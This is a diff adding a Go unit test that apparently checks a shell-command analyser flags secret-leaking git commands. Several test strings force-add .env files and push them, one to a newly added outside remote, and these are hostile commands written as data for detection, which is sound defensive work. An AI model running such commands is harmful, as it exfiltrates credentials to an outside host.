@@ -17,3 +17,28 @@ func TestStagedCredentialDir(t *testing.T) {
 		}
 	}
 }
+
+// TestStagedSecretFile checks that a secrets file staged by name and pushed
+// is a flow out, whatever other commands stand between, and that the
+// shapes written to be committed (.env.example) are not.
+func TestStagedSecretFile(t *testing.T) {
+	for _, leak := range []string{
+		"git add -f .env && git commit -m wip && git push",
+		"git add --force .env.production && git commit -qm x && git push origin feature/x",
+		"git add -f .env; git commit -m s; git remote add bk https://github.com/k/m.git; git push bk HEAD:main",
+	} {
+		if !hasEffect(effectsOf(leak), "flow:credential->network") {
+			t.Errorf("%q: no flow: %v", leak, effectsOf(leak))
+		}
+	}
+	for _, line := range []string{
+		"git add .env.example && git commit -m 'document settings' && git push",
+		"git add src/config.ts .env.test && git commit -m x && git push",
+	} {
+		for _, e := range effectsOf(line) {
+			if e.Kind == Flow {
+				t.Errorf("%q: %v", line, e)
+			}
+		}
+	}
+}
